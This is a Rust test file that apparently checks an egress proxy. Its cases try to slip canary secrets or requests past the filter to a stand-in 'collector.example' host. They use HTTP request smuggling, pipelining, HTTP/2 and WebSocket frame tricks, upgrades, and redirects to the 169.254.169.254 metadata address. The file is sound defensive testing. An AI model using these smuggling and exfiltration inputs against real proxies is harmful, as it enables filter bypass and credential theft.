//! Handshakes, lengths, pipelines, HTTP/2, upgrades, WebSockets and redirects.

use carboy_sim::WebSockets;
use serde_json::{Value, json};

use super::Expect::{AfterOne, InSocket, Logged, Told, Unread, Works};
use super::{Round, Row, Variant, fields, get, h2, plain, row, sh, tls, tls_with, variant};
use crate::attack::{CANARY_IS_KNOWN, Outside};
use crate::world::{CANARY, Person, REAL_KEY, REAL_OPENAI_KEY, STANDARD_ROUTES, World};

pub fn run(person: Person) {
    let world = World::configured(person, |config| config.websockets = WebSockets::Served);
    world.settings(CANARY_IS_KNOWN);
    world.bottle(&STANDARD_ROUTES.replace("      meter: openai\n", "      websocket: true\n"));
    let outside = Outside::new(&world);
    let rows = vec![
        hellos(),
        lengths(),
        pipelines(),
        frames(),
        prior_knowledge(),
        upgrades(),
        messages(),
        extended_connect(),
        redirects(),
    ];
    Round::new(&world, &outside, "http", person).judge(&rows);
    for request in world.provider.received() {
        for (key, own) in [(REAL_KEY, "api.anthropic.com"), (REAL_OPENAI_KEY, "api.openai.com")] {
            assert!(
                !request.contains(key.as_bytes()) || request.authority == own,
                "{}: {}",
                request.authority,
                request.path
            );
        }
    }
}

/// These bytes to `notes.example` in its own name.
fn notes(send: Value) -> Value {
    tls("notes.example", "notes.example", send)
}

fn hellos() -> Row {
    let with = |handshake: Value, host: &str| tls_with("notes.example", handshake, get("/sink/{mark}", &[host]));
    // 80 protocols of 250 octets: a hello of 20 KB, in more than one record.
    let long: Vec<String> = (0..80).map(|n| format!("{n:0>250}")).chain(["http/1.1".into()]).collect();
    row(
        "B14 a hello in whatever pieces is read as one, and what is none is refused",
        vec![
            variant(
                "in records of one octet, another name",
                with(json!({"sni": "collector.example", "records": 1}), "notes.example"),
                Told("name_mismatch"),
            ),
            variant(
                "in records of 7 octets, another name",
                with(json!({"sni": "collector.example", "records": 7}), "notes.example"),
                Told("name_mismatch"),
            ),
            variant(
                "in writes of 3 octets, another name",
                with(json!({"sni": "collector.example", "writes": 3}), "notes.example"),
                Told("name_mismatch"),
            ),
            variant(
                "of 20 KB, another name",
                with(json!({"sni": "collector.example", "alpn": long}), "notes.example"),
                Told("name_mismatch"),
            ),
            variant(
                "no server name, another Host",
                with(json!({"sni": null}), "collector.example"),
                Told("name_mismatch"),
            ),
            variant(
                "an address as the server name",
                with(json!({"sni": "127.0.0.1"}), "collector.example"),
                Told("name_mismatch"),
            ),
            variant(
                "no hello at all",
                plain("notes.example", 443, json!([{"hex": "160301000461626364"}])),
                Logged("tls_refused", "notes.example".into()),
            ),
            variant(
                "an alert in its place",
                plain("notes.example", 443, json!([{"hex": "160301000415030100"}])),
                Logged("tls_refused", "notes.example".into()),
            ),
            variant(
                "SSL 2.0",
                plain(
                    "notes.example",
                    443,
                    json!([{"hex": "802e0100020015000000100100800200800300800400800500800600400700c0"}]),
                ),
                Logged("protocol_refused", "notes.example".into()),
            ),
            variant(
                "a length that is none",
                plain("notes.example", 443, json!([{"hex": "160301ffff"}, {"times": [{"hex": "00"}, 70_000]}])),
                Logged("tls_refused", "notes.example".into()),
            ),
            variant(
                "in records of one octet, its own name",
                with(json!({"sni": "notes.example", "records": 1}), "notes.example"),
                Works,
            ),
            variant(
                "of 20 KB, its own name",
                with(json!({"sni": "notes.example", "alpn": long}), "notes.example"),
                Works,
            ),
        ],
    )
}

/// A request whose length can be read in two ways, and the one that hides behind it.
fn two_ways(what: &str, framing: &str, body: &str, code: &'static str) -> Variant {
    let hidden = "GET /{mark} HTTP/1.1\r\nHost: collector.example\r\nConnection: close\r\n\r\n";
    let text = format!("POST /sink/two HTTP/1.1\r\nHost: notes.example\r\n{framing}\r\n{body}{hidden}");
    let expect = match code {
        "" => Logged("protocol_refused", "notes.example".into()),
        "after one" => AfterOne("name_mismatch"),
        "unread" => Unread,
        code => Told(code),
    };
    variant(what, notes(json!([text])), expect)
}

fn lengths() -> Row {
    row(
        "B21 a message that two readers could cut differently is refused, or made one",
        vec![
            two_ways("two lengths", "Content-Length: 5\r\nContent-Length: 6\r\n", "abcde", ""),
            two_ways("a list of two lengths", "Content-Length: 5, 6\r\n", "abcde", ""),
            two_ways("a length with a sign", "Content-Length: +5\r\n", "abcde", ""),
            two_ways("a negative length", "Content-Length: -5\r\n", "abcde", ""),
            two_ways("a length in hex", "Content-Length: 0x5\r\n", "abcde", ""),
            two_ways("a length that overflows", "Content-Length: 18446744073709551621\r\n", "abcde", ""),
            two_ways(
                "a length and chunks",
                "Content-Length: 5\r\nTransfer-Encoding: chunked\r\n",
                "0\r\n\r\n",
                "unread",
            ),
            two_ways("chunked, then identity", "Transfer-Encoding: chunked, identity\r\n", "0\r\n\r\n", ""),
            two_ways(
                "two Transfer-Encodings",
                "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n",
                "0\r\n\r\n",
                "",
            ),
            two_ways("xchunked", "Transfer-Encoding: xchunked\r\n", "0\r\n\r\n", ""),
            two_ways("chunked behind a tab", "Transfer-Encoding:\tchunked\r\n", "0\r\n\r\n", "after one"),
            two_ways("chunked before a vertical tab", "Transfer-Encoding: chunked\u{b}\r\n", "0\r\n\r\n", ""),
            two_ways("a blank before the colon", "Transfer-Encoding : chunked\r\n", "0\r\n\r\n", ""),
            two_ways("a folded field", "Transfer-Encoding:\r\n chunked\r\n", "0\r\n\r\n", ""),
            two_ways("a field that begins with a blank", " Transfer-Encoding: chunked\r\n", "0\r\n\r\n", ""),
            two_ways("a bare CR within a field", "X: a\rTransfer-Encoding: chunked\r\n", "0\r\n\r\n", ""),
            two_ways(
                "an underscore for the hyphen",
                "Transfer_Encoding: chunked\r\nContent-Length: 5\r\n",
                "0\r\n\r\n",
                "after one",
            ),
            two_ways("a chunk's size with a sign", "Transfer-Encoding: chunked\r\n", "+0\r\n\r\n", "protocol_refused"),
            two_ways(
                "a chunk's size that overflows",
                "Transfer-Encoding: chunked\r\n",
                "10000000000000000\r\n",
                "protocol_refused",
            ),
            two_ways(
                "a chunk longer than it says",
                "Transfer-Encoding: chunked\r\n",
                "1\r\nabc\r\n0\r\n\r\n",
                "protocol_refused",
            ),
            two_ways(
                "a chunk that ends in a bare LF",
                "Transfer-Encoding: chunked\r\n",
                "1\nX\n0\n\n",
                "protocol_refused",
            ),
            variant(
                "a head of bare LFs",
                notes(json!(["GET /sink/{mark} HTTP/1.1\nHost: collector.example\nConnection: close\n\n"])),
                Told("name_mismatch"),
            ),
            variant(
                "a length in HTTP/1.0 with chunks",
                notes(json!([
                    "POST /sink/{mark} HTTP/1.0\r\nHost: notes.example\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
                ])),
                Logged("protocol_refused", "notes.example".into()),
            ),
            variant(
                "a NUL in a field's name",
                notes(json!(["GET /{mark} HTTP/1.1\r\nHost: notes.example\r\n\0x: y\r\n\r\n"])),
                Logged("protocol_refused", "notes.example".into()),
            ),
        ],
    )
}

fn pipelines() -> Row {
    let first = "GET /sink/first HTTP/1.1\r\nHost: notes.example\r\n\r\n";
    let then = |text: &str| notes(json!([format!("{first}{text}")]));
    row(
        "B22 each of several requests of a connection is decided by itself",
        vec![
            variant(
                "another host",
                then("GET /{mark} HTTP/1.1\r\nHost: collector.example\r\nConnection: close\r\n\r\n"),
                AfterOne("name_mismatch"),
            ),
            variant(
                "another allowed host",
                then("GET /{mark} HTTP/1.1\r\nHost: api.anthropic.com\r\nConnection: close\r\n\r\n"),
                AfterOne("name_mismatch"),
            ),
            variant(
                "a secret in its query",
                then(&format!(
                    "GET /sink/{{mark}}?q={CANARY} HTTP/1.1\r\nHost: notes.example\r\nConnection: close\r\n\r\n"
                )),
                AfterOne("secret_known"),
            ),
            variant(
                "a secret in its body",
                then(&format!(
                    "POST /sink/{{mark}} HTTP/1.1\r\nHost: notes.example\r\nConnection: close\r\nContent-Length: {}\r\n\r\n{CANARY}",
                    CANARY.len()
                )),
                AfterOne("secret_known"),
            ),
            variant(
                "behind a body that is longer than its length",
                notes(json!([
                    "POST /sink/first HTTP/1.1\r\nHost: notes.example\r\nContent-Length: 3\r\n\r\nabcGET /{mark} HTTP/1.1\r\nHost: collector.example\r\nConnection: close\r\n\r\n"
                ])),
                AfterOne("name_mismatch"),
            ),
            variant(
                "behind the last chunk",
                notes(json!([
                    "POST /sink/first HTTP/1.1\r\nHost: notes.example\r\nTransfer-Encoding: chunked\r\n\r\n1\r\na\r\n0\r\n\r\nGET /{mark} HTTP/1.1\r\nHost: collector.example\r\nConnection: close\r\n\r\n"
                ])),
                AfterOne("name_mismatch"),
            ),
            variant(
                "behind a GET with a body",
                notes(json!([
                    "GET /sink/first HTTP/1.1\r\nHost: notes.example\r\nContent-Length: 3\r\n\r\nabcGET /{mark} HTTP/1.1\r\nHost: collector.example\r\nConnection: close\r\n\r\n"
                ])),
                AfterOne("name_mismatch"),
            ),
            variant(
                "cut in the middle of its line",
                notes(
                    json!([format!("{first}GE"), {"wait": 50}, "T /{mark} HTTP/1.1\r\nHost: collector.example\r\nConnection: close\r\n\r\n"]),
                ),
                AfterOne("name_mismatch"),
            ),
            variant(
                "a push in its place",
                then(
                    "GET /{mark}/info/refs?service=git-receive-pack HTTP/1.1\r\nHost: notes.example\r\nConnection: close\r\n\r\n",
                ),
                AfterOne("git_push_not_allowed"),
            ),
            variant(
                "a TRACE in its place",
                then("TRACE /{mark} HTTP/1.1\r\nHost: notes.example\r\nConnection: close\r\n\r\n"),
                AfterOne("protocol_refused"),
            ),
        ],
    )
}

fn frames() -> Row {
    let own = |path: &str| fields("notes.example", path, &[]);
    let two =
        |second: Value| h2("notes.example", json!([["headers", 1, 5, own("/sink/first")], ["headers", 3, 5, second]]));
    let one = |list: Value| h2("notes.example", json!([["headers", 1, 5, list]]));
    let odd = || Logged("protocol_refused", "notes.example".into());
    let body = |more: &[(&str, &str)], data: &str| {
        h2(
            "notes.example",
            json!([["headers", 1, 4, fields("notes.example", "/sink/{mark}", more)], ["data", 1, 1, data]]),
        )
    };
    row(
        "B23 each stream of HTTP/2 is decided by itself, and frames that are none end the connection with an entry",
        vec![
            variant(
                "a second stream to another host",
                two(fields("collector.example", "/{mark}", &[])),
                Told("name_mismatch"),
            ),
            variant(
                "a second stream to another allowed host",
                two(fields("api.anthropic.com", "/{mark}", &[])),
                Told("name_mismatch"),
            ),
            variant(
                "a second stream with a secret",
                two(fields("notes.example", &format!("/sink/{{mark}}?q={CANARY}"), &[])),
                Told("secret_known"),
            ),
            variant(
                "an absolute :path of another host",
                one(fields("notes.example", "https://collector.example/{mark}", &[])),
                odd(),
            ),
            variant("a :path without a slash", one(fields("notes.example", "{mark}", &[])), odd()),
            variant(
                "a :path with a line break",
                one(fields("notes.example", "/{mark} HTTP/1.1\r\nHost: collector.example\r\n\r\n", &[])),
                odd(),
            ),
            variant(
                "a field with a line break",
                one(fields("notes.example", "/{mark}", &[("x", "a\r\nhost: collector.example")])),
                odd(),
            ),
            variant(
                "a name with a line break",
                one(fields("notes.example", "/{mark}", &[("x\r\nhost", "collector.example")])),
                odd(),
            ),
            variant(
                "a name in capitals",
                one(fields("notes.example", "/{mark}", &[("Host", "collector.example")])),
                odd(),
            ),
            variant(
                "a field of a connection's",
                one(fields("notes.example", "/{mark}", &[("connection", "close")])),
                odd(),
            ),
            variant(
                "a Transfer-Encoding",
                one(fields("notes.example", "/{mark}", &[("transfer-encoding", "chunked")])),
                odd(),
            ),
            variant(
                "a pseudo field behind others",
                one(json!([
                    [":method", "GET"],
                    [":scheme", "https"],
                    ["x", "{mark}"],
                    [":path", "/{mark}"],
                    [":authority", "notes.example"]
                ])),
                odd(),
            ),
            variant("a pseudo field that is none", one(fields("notes.example", "/{mark}", &[(":x", "y")])), odd()),
            variant(
                "a stream of an even number",
                h2("notes.example", json!([["headers", 2, 5, own("/{mark}")]])),
                odd(),
            ),
            variant(
                "a promise from a client",
                h2("notes.example", json!([["push", 1, 4, [[{"hex": "00000002"}, "{mark}"]]]])),
                odd(),
            ),
            variant(
                "data on a stream that was not opened",
                h2("notes.example", json!([["data", 5, 1, "{mark}"]])),
                odd(),
            ),
            variant("a body longer than its length", body(&[("content-length", "3")], "abc and {mark}"), odd()),
            variant("a secret in a frame of data", body(&[], CANARY), Told("secret_known")),
            variant(
                "a field block that is cut off by another stream",
                h2("notes.example", json!([["headers", 1, 1, own("/{mark}")], ["headers", 3, 5, own("/{mark}")]])),
                odd(),
            ),
            variant(
                "two streams to the host itself",
                h2(
                    "notes.example",
                    json!([["headers", 1, 5, own("/sink/first")], ["headers", 3, 5, own("/sink/{mark}")]]),
                ),
                Works,
            ),
        ],
    )
}

fn prior_knowledge() -> Row {
    let preface = json!([{"h2": [["preface"], ["headers", 1, 5, fields("plain.example", "/{mark}", &[])]]}]);
    let upgrade = |host: &str, path: &str| {
        json!([format!(
            "GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: Upgrade, HTTP2-Settings, close\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n\r\n"
        )])
    };
    row(
        "B23 HTTP/2 is not spoken without having been agreed on",
        vec![
            variant(
                "by prior knowledge in plain text",
                plain("plain.example", 80, preface.clone()),
                Logged("protocol_refused", "plain.example".into()),
            ),
            variant(
                "by prior knowledge over TLS without ALPN",
                notes(preface.clone()),
                Logged("protocol_refused", "notes.example".into()),
            ),
            variant(
                "by prior knowledge after agreeing on HTTP/1.1",
                tls_with("notes.example", json!({"sni": "notes.example", "alpn": ["http/1.1"]}), preface),
                Logged("protocol_refused", "notes.example".into()),
            ),
            variant(
                "HTTP/1.1 after agreeing on HTTP/2",
                tls_with(
                    "notes.example",
                    json!({"sni": "notes.example", "alpn": ["h2"]}),
                    get("/sink/{mark}", &["notes.example"]),
                ),
                Logged("protocol_refused", "notes.example".into()),
            ),
            variant(
                "by an upgrade, for another host",
                plain("plain.example", 80, upgrade("collector.example", "/{mark}")),
                Told("name_mismatch"),
            ),
            variant(
                "by an upgrade, with a secret",
                plain("plain.example", 80, upgrade("plain.example", &format!("/sink/{{mark}}?q={CANARY}"))),
                Told("secret_known"),
            ),
            variant(
                "an upgrade is answered over HTTP/1.1",
                plain("plain.example", 80, upgrade("plain.example", "/sink/{mark}")),
                Works,
            ),
        ],
    )
}

/// An opening of a WebSocket, up to its end.
fn opening(host: &str, path: &str, more: &str) -> String {
    format!(
        "GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n{more}\r\n"
    )
}

fn upgrades() -> Row {
    let to = |what: &str| {
        json!([format!(
            "GET /sink/{{mark}} HTTP/1.1\r\nHost: notes.example\r\nConnection: Upgrade\r\nUpgrade: {what}\r\n\r\n{{mark}}"
        )])
    };
    let mut variants: Vec<Variant> =
        ["foo", "TLS/1.0", "IRC/6.9", "websocket, foo", "h2c, foo", "connect-udp", "WebSocket/13", "SPDY/3.1"]
            .iter()
            .map(|what| variant(format!("to {what}"), notes(to(what)), Told("protocol_refused")))
            .collect();
    let model = |text: String| tls("api.openai.com", "api.openai.com", json!([text]));
    variants.extend([
        variant("a WebSocket on a route without the key", notes(json!([opening("notes.example", "/sink/{mark}", "")])), Told("protocol_refused")),
        variant("a WebSocket in plain text on a route without the key", plain("plain.example", 80, json!([opening("plain.example", "/sink/{mark}", "")])), Told("protocol_refused")),
        variant("a WebSocket to another host", model(opening("collector.example", "/v1/responses?{mark}", "")), Told("name_mismatch")),
        variant("a WebSocket with a secret in its opening", model(opening("api.openai.com", &format!("/v1/responses?{{mark}}{CANARY}"), "")), Told("secret_known")),
        variant("a WebSocket with a secret as its protocol", model(opening("api.openai.com", "/v1/responses?{mark}", &format!("Sec-WebSocket-Protocol: {CANARY}\r\n"))), Told("secret_known")),
        variant("a WebSocket of another version", model(opening("api.openai.com", "/v1/responses?{mark}", "").replace("Version: 13", "Version: 8")), Told("protocol_refused")),
        variant("opaque octets behind the opening", tls("api.openai.com", "api.openai.com", json!([opening("api.openai.com", "/v1/responses", ""), {"until": "\r\n\r\n"}, {"hex": "160301"}, "{mark}"])), InSocket("protocol_refused", "api.openai.com".into())),
        variant("a WebSocket on a route that allows it", model(opening("api.openai.com", "/v1/responses?{mark}", "")), Works),
    ]);
    row("B24 an upgrade to what is not read as it passes is refused", variants)
}

fn messages() -> Row {
    let with = |more: &str, parts: Value| {
        let mut send = vec![json!(opening("api.openai.com", "/v1/responses", more)), json!({"until": "\r\n\r\n"})];
        send.extend(parts.as_array().unwrap().iter().cloned());
        tls("api.openai.com", "api.openai.com", json!(send))
    };
    let (front, back) = CANARY.split_at(CANARY.len() / 2);
    let ws = |what: Value| json!({"ws": what});
    let known = || InSocket("secret_known", "api.openai.com".into());
    let odd = || InSocket("protocol_refused", "api.openai.com".into());
    let packed = json!({"coded": ["raw", CANARY]});
    row(
        "B25 what is in the messages of a WebSocket is seen whole before it leaves",
        vec![
            variant("a secret in a text", with("", json!([ws(json!({"of": CANARY}))])), known()),
            variant("a secret in a binary message", with("", json!([ws(json!({"of": CANARY, "code": 2}))])), odd()),
            variant(
                "a secret in two fragments",
                with("", json!([ws(json!({"of": front, "end": false})), ws(json!({"of": back, "code": 0}))])),
                known(),
            ),
            variant(
                "a secret in two fragments with a ping between them",
                with(
                    "",
                    json!([
                        ws(json!({"of": front, "end": false})),
                        ws(json!({"of": "x", "code": 9})),
                        ws(json!({"of": back, "code": 0}))
                    ]),
                ),
                known(),
            ),
            variant(
                "a secret in fragments of one octet",
                with(
                    "",
                    json!(
                        CANARY
                            .char_indices()
                            .map(|(at, c)| ws(
                                json!({"of": c.to_string(), "end": at + 1 == CANARY.len(), "code": u8::from(at == 0)})
                            ))
                            .collect::<Vec<_>>()
                    ),
                ),
                known(),
            ),
            variant(
                "a secret in two writes with a pause",
                with(
                    "",
                    json!([{"hex": format!("81{:02x}00000000", 0x80 | CANARY.len())}, front, {"wait": 120}, back]),
                ),
                known(),
            ),
            variant("a secret in base64", with("", json!([ws(json!({"of": {"coded": ["base64", CANARY]}}))])), known()),
            variant(
                "a secret in hex in a binary message",
                with("", json!([ws(json!({"of": {"coded": ["hex", CANARY]}, "code": 2}))])),
                odd(),
            ),
            variant(
                "a compressed message, though nothing was agreed on",
                with("Sec-WebSocket-Extensions: permessage-deflate\r\n", json!([ws(json!({"of": packed, "bits": 4}))])),
                odd(),
            ),
            variant("a reserved bit", with("", json!([ws(json!({"of": "{mark}", "bits": 2}))])), odd()),
            variant("a frame of a kind that is none", with("", json!([ws(json!({"of": "{mark}", "code": 3}))])), odd()),
            variant("a frame without its mask", with("", json!([ws(json!({"of": "{mark}", "masked": false}))])), odd()),
            variant("a continuation of nothing", with("", json!([ws(json!({"of": "{mark}", "code": 0}))])), odd()),
        ],
    )
}

fn extended_connect() -> Row {
    let open = |host: &str, protocol: &str, path: &str| {
        json!([
            [":method", "CONNECT"],
            [":protocol", protocol],
            [":scheme", "https"],
            [":authority", host],
            [":path", path],
            ["sec-websocket-version", "13"]
        ])
    };
    let one = |to: &str, list: Value, more: Value| {
        let mut all = vec![json!(["headers", 1, 4, list])];
        all.extend(more.as_array().unwrap().iter().cloned());
        h2(to, json!(all))
    };
    let model = "api.openai.com";
    row(
        "B26 a stream of HTTP/2 that is to be a WebSocket is one, or is refused in words",
        vec![
            variant(
                "on a route without the key",
                one("notes.example", open("notes.example", "websocket", "/sink/{mark}"), json!([])),
                Told("protocol_refused"),
            ),
            variant(
                "to another host",
                one(model, open("collector.example", "websocket", "/v1/responses?{mark}"), json!([])),
                Told("name_mismatch"),
            ),
            variant(
                "connect-udp",
                one(model, open(model, "connect-udp", "/.well-known/masque/udp/1.1.1.1/443/{mark}"), json!([])),
                Told("protocol_refused"),
            ),
            variant(
                "connect-ip",
                one(model, open(model, "connect-ip", "/.well-known/masque/ip/*/*/{mark}"), json!([])),
                Told("protocol_refused"),
            ),
            variant(
                "connect-tcp",
                one(model, open(model, "connect-tcp", "/{mark}"), json!([])),
                Told("protocol_refused"),
            ),
            variant(
                "with a secret in its path",
                one(model, open(model, "websocket", &format!("/v1/responses?{{mark}}{CANARY}")), json!([])),
                Told("secret_known"),
            ),
            variant(
                "without a version",
                one(
                    model,
                    json!([
                        [":method", "CONNECT"],
                        [":protocol", "websocket"],
                        [":scheme", "https"],
                        [":authority", model],
                        [":path", "/v1/responses?{mark}"]
                    ]),
                    json!([]),
                ),
                Told("protocol_refused"),
            ),
        ],
    )
}

fn redirects() -> Row {
    // The mark is spelled in escapes within the first request, so that only a followed redirect would carry it.
    let to = |from: &str, url: &str| sh(format!("curl -s -L -m 8 'https://{from}/redirect?to={url}'; true"));
    let key = "-H 'authorization: Bearer mine' -H 'cookie: mine=1'";
    row(
        "B33 a followed redirect is a new decision, and no credential goes along",
        vec![
            variant(
                "to a host that no route has",
                to("notes.example", "https%3A%2F%2Fcollector.example%2F{wide}"),
                Logged("name_not_allowed", "collector.example".into()),
            ),
            variant(
                "to a metadata service",
                to("notes.example", "http%3A%2F%2F169.254.169.254%2F{wide}"),
                Told("address_not_allowed"),
            ),
            variant(
                "to an address in another base",
                to("notes.example", "http%3A%2F%2F0xa9fea9fe%2F{wide}"),
                Told("address_not_allowed"),
            ),
            variant(
                "to another port",
                to("notes.example", "https%3A%2F%2Fnotes.example%3A8443%2F{wide}"),
                Logged("port_not_allowed", "8443".into()),
            ),
            variant(
                "to a push",
                to("notes.example", "https%3A%2F%2Fnotes.example%2F{wide}%2Fgit-receive-pack"),
                Told("git_push_not_allowed"),
            ),
            variant(
                "from a model to a host that no route has",
                to("api.openai.com", "https%3A%2F%2Fcollector.example%2F{wide}"),
                Logged("name_not_allowed", "collector.example".into()),
            ),
            variant(
                "from a model to another allowed host, without its key",
                sh(format!(
                    "curl -s -i -L -m 8 {key} 'https://api.openai.com/redirect?to=https%3A%2F%2Fnotes.example%2Fsink%2F{{wide}}'"
                )),
                Works,
            ),
            variant(
                "to an allowed host in plain text",
                sh("curl -s -i -L -m 8 'https://notes.example/redirect?to=http%3A%2F%2Fplain.example%2Fsink%2F{wide}'"),
                Works,
            ),
        ],
    )
}
